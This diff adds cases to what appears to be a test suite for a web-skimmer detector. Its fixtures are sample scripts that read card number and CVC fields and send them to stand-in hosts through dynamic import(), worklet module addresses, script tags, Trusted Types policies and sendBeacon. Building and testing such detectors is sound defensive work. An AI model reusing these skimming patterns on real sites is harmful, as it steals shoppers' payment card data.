@@ -447,3 +447,138 @@ describe("what is written through a name holding a property of the page's global
     expect(taintSent(local + reader)).not.toContain('value')
   })
 })
+
+describe('modules fetched from an address: import() and a worklet', () => {
+  const sweep = `const num = document.querySelector('input[autocomplete="cc-number"]')
+    const cvc = document.querySelector('input[autocomplete="cc-csc"]')`
+  it('import(url) with the typed card in its query is a request to that host', async () => {
+    const source = `${sweep}
+      const CDN = 'https://esm.mod-cache.example/pkg'
+      async function go() {
+        const url = CDN + '/' + document.documentElement.lang + '.mjs?d=' + btoa(num.value + '|' + cvc.value)
+        try { await import(url) } catch {}
+      }
+      document.addEventListener('change', go, true)`
+    const v = analyzeScript(source)
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain(
+      'https://esm.mod-cache.example/pkg/',
+    )
+    // the app's own chunk, its name from a constant table, carries nothing typed
+    const chunk = `const CHUNKS = { pay: './pay.3f9a.js' }
+      async function step(name) { const m = await import(CHUNKS[name]); m.mount(document.querySelector('#pay')) }
+      document.querySelector('#next').addEventListener('click', () => step('pay'))`
+    expect(rules(chunk)).toEqual([])
+  })
+
+  it("a paint or audio worklet's module address carrying the card is a send", () => {
+    const source = `${sweep}
+      var base = 'https://fx.ripple-kit.example/w/'
+      function paint() {
+        var u = base + btoa(JSON.stringify({ n: num.value, c: cvc.value })) + '/ripple.js'
+        if (window.CSS && CSS.paintWorklet) CSS.paintWorklet.addModule(u)
+        else new AudioContext().audioWorklet.addModule(u)
+      }
+      document.addEventListener('change', paint, true)`
+    expect(rules(source)).toContain('card-field-read-and-send')
+    expect(analyzeScript(source).verdict).toBe('malicious')
+    // a button effect from the shop's own path sends nothing
+    const effect = `if (window.CSS && CSS.paintWorklet) CSS.paintWorklet.addModule('/static/worklets/shimmer.js?v=3')`
+    expect(rules(effect)).toEqual([])
+  })
+})
+
+describe("a name given one built address, never another, holds that address's host", () => {
+  it('`const url = BASE + data` sent as an image is a send to that host', () => {
+    const source = `var BASE = 'https://img.pixel-relay.example/p.gif'
+      document.querySelector('#pay').addEventListener('click', function () {
+        var n = document.querySelector('#cc_number').value
+        var url = BASE + '?d=' + btoa(n)
+        var s = document.createElement('script'); s.src = url; document.head.appendChild(s) })`
+    const v = analyzeScript(source)
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain(
+      'https://img.pixel-relay.example/p.gif',
+    )
+  })
+})
+
+describe('card words that only name what to leave alone', () => {
+  // an analytics SDK recording field events to its vendor's host, skipping card fields
+  const sdk = (skip: string) => `(function (w, d) {
+      var ENDPOINT = 'https://ingest.metrics-vendor.example/v1/batch?site=' + encodeURIComponent(w.SITE)
+      var SENSITIVE = /cc-|card|cvv|cvc|password/i
+      var queue = []
+      d.addEventListener('change', function (e) {
+        var el = e.target, label = [el.name, el.id, el.getAttribute('autocomplete')].join(' ')
+        ${skip}
+        queue.push({ t: 'field', name: el.name, value: '*****' })
+      }, true)
+      d.addEventListener('visibilitychange', function () {
+        if (d.visibilityState === 'hidden') navigator.sendBeacon(ENDPOINT, JSON.stringify(queue))
+      })
+    })(window, document)`
+  it('a pattern used only as `if (re.test(label)) return;` is a skip list, not a card read', () => {
+    expect(rules(sdk('if (SENSITIVE.test(label)) { return; }'))).not.toContain(
+      'card-field-read-and-send',
+    )
+    expect(rules(sdk('if (el.type === "hidden" || SENSITIVE.test(label)) return'))).not.toContain(
+      'card-field-read-and-send',
+    )
+  })
+  it('tested to go on, or to answer which field it is, the pattern picks card fields', () => {
+    expect(rules(sdk('if (!SENSITIVE.test(label)) return'))).toContain('card-field-read-and-send')
+    expect(rules(sdk('if (SENSITIVE.test(label)) queue.push(el.value)'))).toContain(
+      'card-field-read-and-send',
+    )
+  })
+})
+
+describe("a Trusted Types policy's output keeps its input's address", () => {
+  const send = (
+    policy: string,
+  ) => `var p = window.trustedTypes.createPolicy('x', { createScriptURL: function (s) { return s } })
+    document.querySelector('#pay').addEventListener('click', function () {
+      var n = document.querySelector('input[autocomplete="cc-number"]').value
+      var s = document.createElement('script')
+      s.src = ${policy}
+      document.head.appendChild(s) })`
+  it('a script src set through createScriptURL(url) loads from that url', () => {
+    const v = analyzeScript(
+      send("p.createScriptURL('https://rum.vitals-probe.example/l.js?m=' + btoa(n))"),
+    )
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain(
+      'https://rum.vitals-probe.example/l.js',
+    )
+  })
+  it("a tag the policy lets through from the shop's own path sends nothing typed", () => {
+    expect(analyzeScript(send("p.createScriptURL('/static/js/tag.js')")).verdict).toBe('clean')
+  })
+})
+
+describe('a function handed back by another receives what its caller passes', () => {
+  it('`sender()(data)`: the card reaches the send inside the returned function', () => {
+    const source = `var send = null
+      function sender() {
+        if (send) return send
+        if (window.SharedWorker) { send = function (m) { new SharedWorker('/w.js').port.postMessage(m) }; return send }
+        send = function (m) { navigator.sendBeacon(m.to, 'd=' + m.p) }
+        return send
+      }
+      document.addEventListener('change', function () {
+        var n = document.querySelector('input[autocomplete="cc-number"]').value
+        sender()({ to: 'https://sync.tab-relay.example/put', p: btoa(n) })
+      }, true)`
+    expect(rules(source)).toContain('card-field-read-and-send')
+    // the same relay handed only the page's title sends nothing typed
+    expect(
+      rules(
+        source.replace(
+          'document.querySelector(\'input[autocomplete="cc-number"]\').value',
+          'document.title',
+        ),
+      ),
+    ).not.toContain('card-field-read-and-send')
+  })
+})
